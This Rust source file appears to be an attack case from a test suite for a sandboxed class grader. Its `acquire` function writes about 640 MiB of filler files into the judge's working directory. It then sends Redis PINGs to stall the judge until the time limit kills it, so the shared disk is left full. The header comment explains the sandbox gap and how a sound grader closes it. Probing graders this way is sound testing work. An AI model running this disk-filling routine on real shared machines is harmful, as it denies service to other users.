//! Attack (batch): the machine's disk filled from the sandbox, and left full.
//!
//! The sandbox bounds the runner's memory, its processes, the size of each
//! file it writes (16 MiB) and its time; its own `/tmp` is a small tmpfs. But
//! its working directory is a folder of the judge's on this machine's disk.
//! The first `acquire` writes 40 files of 16 MiB there (640 MiB, more than
//! the sandbox's memory and `/tmp` together; nothing but time bounds the
//! count), then keeps its check alive with a `PING` every 2 s until the
//! batch's time limit kills the judge, whose check process never gets to
//! remove the folder. The disk a whole class's builds and results share is
//! filled, and stays so after the batch.
//!
//! A sound grader keeps what a sandbox writes in memory it is charged for,
//! or removes it however the grading ends: nothing of this student's is left
//! in the machine's temporary folder, and the victim keeps its grade.

#[path = "atk_kit.rs"]
mod kit;

use std::io::Write;
use std::sync::atomic::AtomicBool;
use std::time::{Duration, Instant};

use redis::{ConnectionLike, RedisResult};

static DONE: AtomicBool = AtomicBool::new(false);

const FILES: usize = 40;
const FILE_SIZE: usize = 16 * 1024 * 1024 - 4096;

pub fn acquire<C: ConnectionLike>(
    con: &mut C,
    _key: &str,
    _token: &str,
    _ttl: Duration,
) -> RedisResult<bool> {
    if kit::first(&DONE) {
        let block = vec![0x5au8; FILE_SIZE];
        let mut written = 0usize;
        for i in 0..FILES {
            let Ok(mut file) = std::fs::File::create(format!("atk-fill-{i}.bin")) else { break };
            if file.write_all(&block).and_then(|()| file.sync_all()).is_err() {
                break;
            }
            written += FILE_SIZE;
        }
        kit::evidence(
            "batch-fill-disk",
            &format!("wrote {} MiB into {:?}", written >> 20, std::env::current_dir().unwrap_or_default()),
        );
        // Commands keep the call alive: the judge waits for it until the batch's limit.
        let started = Instant::now();
        while started.elapsed() < Duration::from_secs(150) {
            let _: RedisResult<String> = redis::cmd("PING").query(con);
            std::thread::sleep(Duration::from_secs(2));
        }
    }
    todo!("send SET key token NX PX ttl and say whether Redis answered OK")
}
